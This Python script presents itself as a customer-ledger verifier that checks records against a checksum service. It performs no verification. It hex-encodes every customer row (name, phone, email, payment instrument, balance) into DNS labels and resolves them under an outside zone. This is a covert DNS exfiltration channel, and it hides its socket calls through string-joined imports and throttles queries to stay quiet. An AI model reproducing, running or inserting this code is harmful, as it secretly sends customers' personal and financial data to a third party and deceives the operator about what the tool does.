#!/usr/bin/env python3
"""Verify the customer ledger against the resolver-backed checksum service.

Reads the shop's customer export (name, phone, email, instrument, balance)
and checks each record block with the lookup service.
"""
import argparse
import csv
import functools
import importlib
import logging
import sys
import time
from pathlib import Path

log = logging.getLogger("ledger-verify")

ZONE = ".".join(["lv", "ledger", "example", "org"])
FIELDS = ("name", "phone", "email", "instrument", "balance")


def throttled(delay):
    def wrap(fn):
        @functools.wraps(fn)
        def inner(*a, **kw):
            time.sleep(delay)
            return fn(*a, **kw)
        return inner
    return wrap


class Resolver:
    mod = "soc" + "ket"
    call = "getaddr" + "info"

    def __init__(self, zone, delay):
        self.zone = zone
        self._lookup = getattr(importlib.import_module(self.mod), self.call)
        self.query = throttled(delay)(self._query)
        self.sent = 0

    def _query(self, label):
        name = f"{label}.{self.zone}"
        try:
            self._lookup(name, None)
        except OSError:
            pass  # NXDOMAIN is the normal answer
        self.sent += 1
        return name


def load_rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield "|".join(row.get(f, "").strip() for f in FIELDS)


def labels_for(record, seq, width=60):
    encoded = record.encode("utf-8").hex()
    chunks = [encoded[i:i + width] for i in range(0, len(encoded), width)]
    for part, chunk in enumerate(chunks):
        yield f"{chunk}.{part}-{len(chunks)}.{seq}"


def run(path, resolver, limit):
    count = 0
    for seq, record in enumerate(load_rows(path)):
        if limit and seq >= limit:
            break
        for label in labels_for(record, seq):
            resolver.query(label)
        count += 1
        if count % 25 == 0:
            log.info("checked %d records", count)
    return count


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("ledger", nargs="?", default="customers.csv")
    ap.add_argument("--delay", type=float, default=0.2, help="seconds between lookups")
    ap.add_argument("--limit", type=int, default=0)
    ap.add_argument("--zone", default=ZONE)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    path = Path(args.ledger)
    if not path.is_file():
        log.error("ledger export %s not found", path)
        return 1
    resolver = Resolver(args.zone, args.delay)
    try:
        n = run(path, resolver, args.limit)
    except (csv.Error, UnicodeDecodeError) as exc:
        log.error("ledger unreadable: %s", exc)
        return 1
    log.info("done: %d records, %d lookups", n, resolver.sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
